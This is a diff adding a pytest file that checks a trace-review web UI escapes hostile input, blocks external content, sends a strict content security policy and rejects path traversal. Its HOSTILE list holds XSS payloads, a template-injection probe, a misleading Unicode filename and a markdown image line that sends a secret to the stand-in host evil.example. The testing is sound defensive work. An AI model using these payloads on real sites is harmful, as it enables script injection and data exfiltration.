@@ -1,0 +1,254 @@
+"""Every page: strict policy, nothing from elsewhere, hostile words as text, small files."""
+
+import re
+from datetime import timedelta
+from html.parser import HTMLParser
+
+import pytest
+from sqlalchemy import Engine
+from starlette.testclient import TestClient
+
+from app.criteria import Criteria
+from app.database import transaction
+from app.settings import Settings
+from app.store.spans import store_spans
+from app.tables import Interaction
+from feedback_ui.pages import POLICY, static_path
+from tests.builders import WEDNESDAY, a_span, an_interaction, save, score_all, some_interactions
+
+pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "![exfiltrate](http://evil.example/?q=secret)",
+    "[click](javascript:alert(1))",
+    "{{ 7 * 7 }}",
+    "</textarea><script>alert(2)</script>",
+    "\u202egnp.exe",
+)
+MAIN_PAGES = ("/", "/interactions", "/review", "/trends", "/reports", "/sign-in")
+
+
+class Markup(HTMLParser):
+    """The elements and attributes of a page."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.ids: list[str] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+        self.ids += [value for name, value in attrs if name == "id" and value]
+
+
+@pytest.fixture
+def hostile(engine: Engine, criteria: Criteria, settings: Settings) -> Interaction:
+    words = " ".join(HOSTILE)
+    row = an_interaction(
+        prompt=words,
+        response=f"{words} It was invented. {words}",
+        contexts=[words, "\n".join(HOSTILE)],
+        application=HOSTILE[0],
+        model=HOSTILE[1],
+        system_prompt=words,
+        conversation_id=words,
+        segments={HOSTILE[1]: HOSTILE[0]},
+        provenance={HOSTILE[0]: {"attribute": HOSTILE[1]}, "response": HOSTILE[3]},
+    )
+    save(engine, [row])
+    score_all(engine, criteria, settings)
+    span = a_span(
+        name=words,
+        attributes={HOSTILE[0]: words, "deep": [{HOSTILE[1]: words}]},
+        status_message=words,
+        status_code=2,
+    )
+    with transaction(engine) as session:
+        store_spans(session, [span], now=WEDNESDAY)
+    return row
+
+
+@pytest.fixture
+def paths(client: TestClient, hostile: Interaction) -> list[str]:
+    created = client.post("/review", data={"name": HOSTILE[0], "size": "1"}, follow_redirects=False)
+    assert created.status_code == 303
+    queue = created.headers["location"]
+    return [
+        *MAIN_PAGES,
+        "/reports/2026-W47",
+        f"/interactions/{hostile.id}",
+        f"/traces/{hostile.trace_id}",
+        queue,
+        "/interactions?text=%3Cscript%3E&segment=%3Cscript%3E=%22%3E",
+        "/no-such-page",
+    ]
+
+
+HTML = {"accept": "text/html"}
+
+
+def test_no_page_holds_markup_from_a_trace_or_anything_from_elsewhere(
+    client: TestClient, paths: list[str]
+) -> None:
+    for path in paths:
+        page = client.get(path, headers=HTML)
+        assert page.headers["content-type"].startswith("text/html"), path
+        for tag, attributes in Markup(page.text).elements:
+            assert tag not in {"img", "iframe", "object", "embed", "base"}, path
+            assert "style" not in attributes, (path, tag)
+            assert not any(name.startswith("on") for name in attributes), (path, tag)
+            for name in ("href", "src", "action", "formaction"):
+                target = attributes.get(name) or "/"
+                assert target.startswith(("/", "#")), (path, target)
+                assert not target.startswith("//"), (path, target)
+            if tag == "script":
+                assert attributes["src"] == static_path("touchstone.js"), path
+        assert "49" not in re.findall(r">\s*(\d+)\s*<", page.text), path
+
+
+def test_no_page_uses_an_id_twice(client: TestClient, paths: list[str]) -> None:
+    for path in paths:
+        ids = Markup(client.get(path, headers=HTML).text).ids
+        assert len(ids) == len(set(ids)), path
+
+
+def test_hostile_words_are_shown_as_they_are(client: TestClient, hostile: Interaction) -> None:
+    html = client.get(f"/interactions/{hostile.id}").text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "![exfiltrate](http://evil.example/?q=secret)" in html
+
+
+def test_every_page_has_the_strict_policy_and_is_never_cached(
+    client: TestClient, paths: list[str]
+) -> None:
+    for path in paths:
+        headers = client.get(path, headers=HTML).headers
+        assert headers["x-content-type-options"] == "nosniff", path
+        assert headers["cache-control"] == "no-store", path
+        policy = headers["content-security-policy"]
+        if path.startswith("/reports/"):
+            assert "script-src" not in policy
+            assert policy.startswith("default-src 'none'; style-src 'sha256-")
+        else:
+            assert policy == POLICY, path
+
+
+def test_every_page_is_small(client: TestClient, paths: list[str]) -> None:
+    for path in paths:
+        if not path.startswith("/reports/"):
+            assert len(client.get(path, headers=HTML).content) <= 60 * 1024, path
+
+
+def test_static_files_are_kept_for_ever_under_the_address_of_their_content(
+    client: TestClient,
+) -> None:
+    answer = client.get(static_path("touchstone.css"))
+    assert "immutable" in answer.headers["cache-control"]
+    assert answer.headers["content-type"].startswith("text/css")
+    assert client.get("/static/0/touchstone.css").status_code == 404
+    assert client.get("/static/0/..%2Fpages.py").status_code == 404
+
+
+def test_an_empty_server_says_how_to_send_the_first_trace(client: TestClient) -> None:
+    html = client.get("/").text
+    assert "OTEL_EXPORTER_OTLP_ENDPOINT=http://127.0.0.1" in html
+    assert "Open access" in html
+
+
+def test_the_home_page_counts_what_failed(
+    client: TestClient, engine: Engine, criteria: Criteria, settings: Settings
+) -> None:
+    rows = some_interactions(4)
+    rows[0] = an_interaction(trace_id=rows[0].trace_id, response="An invented time.")
+    save(engine, rows)
+    assert "wait to be judged" in client.get("/").text
+    score_all(engine, criteria, settings)
+    html = client.get("/").text
+    assert "ungrounded answers, 25.0" in html
+    assert "4 interactions" in html
+
+
+def test_filters_live_in_the_address_and_pages_follow_each_other(
+    client: TestClient, engine: Engine, criteria: Criteria, settings: Settings
+) -> None:
+    rows = [
+        an_interaction(
+            trace_id=f"{number + 1:032x}",
+            prompt=f"question {number}",
+            response="An invented time." if number == 3 else "Fine.",
+            application="shop" if number % 2 else "helpdesk",
+            segments={"language": "de" if number < 10 else "en"},
+            started_at=WEDNESDAY - timedelta(days=number),
+        )
+        for number in range(30)
+    ]
+    save(engine, rows)
+    score_all(engine, criteria, settings)
+
+    def shown(query: str) -> list[str]:
+        return re.findall(r">(question \d+)<", client.get(f"/interactions?{query}").text)
+
+    assert len(shown("")) == 25
+    assert shown("label=ungrounded&criterion=groundedness") == ["question 3"]
+    assert shown("segment=language=de&application=helpdesk") == [
+        f"question {number}" for number in range(0, 10, 2)
+    ]
+    assert shown("segment.language=de&application=shop&text=question+7") == ["question 7"]
+    assert shown("from=2026-11-17&to=2026-11-17") == ["question 1"]
+    older = re.search(r'href="(/interactions\?[^"]+)" rel="next"', client.get("/interactions").text)
+    assert older is not None
+    second = client.get(older[1].replace("&amp;", "&")).text
+    assert re.findall(r">(question \d+)<", second) == [f"question {n}" for n in range(25, 30)]
+
+
+@pytest.mark.parametrize(
+    ("path", "status"),
+    [
+        ("/interactions?cursor=nonsense", 400),
+        ("/interactions?from=yesterday", 400),
+        ("/interactions?segment=language", 422),
+        ("/interactions?text=%00", 400),
+        ("/interactions/missing", 404),
+        ("/traces/missing", 404),
+        ("/trends?bucket=year", 422),
+        ("/trends?criterion=tone", 422),
+        ("/reports/next-week", 422),
+        ("/review/4711", 404),
+        ("/review/words", 422),
+    ],
+)
+def test_a_wrong_address_gets_a_page_that_says_what_is_wrong(
+    client: TestClient, path: str, status: int
+) -> None:
+    answer = client.get(path, headers=HTML)
+    assert answer.status_code == status
+    assert "To the home page" in answer.text
+
+
+def test_trends_show_a_chart_with_numbers_for_those_who_cannot_see_it(
+    client: TestClient, hostile: Interaction
+) -> None:
+    html = client.get("/trends?criterion=groundedness&bucket=day").text
+    assert 'role="img"' in html
+    assert "1 scored" in html
+    assert "18 Nov" in html
+    empty = client.get("/trends?criterion=groundedness&application=missing").text
+    assert "Nothing was scored here yet" in empty
+
+
+def test_labels_given_with_the_scores_in_view_are_not_blind(
+    client: TestClient, hostile: Interaction
+) -> None:
+    path = f"/interactions/{hostile.id}"
+    form = {"key": "k1", "label.toxicity": "mild", "comment": "rude"}
+    for _ in range(2):
+        assert client.post(f"{path}/annotations", data=form).status_code == 200
+    html = client.get(path).text
+    assert html.count("with the scores in view</span>") == 1
+    changed = {"key": "k2", "label.toxicity": "severe"}
+    client.post(f"{path}/annotations", data=changed)
+    assert client.get(path).text.count("with the scores in view</span>") == 1
+    assert client.post(f"{path}/annotations", data={"label.toxicity": "nice"}).status_code == 422
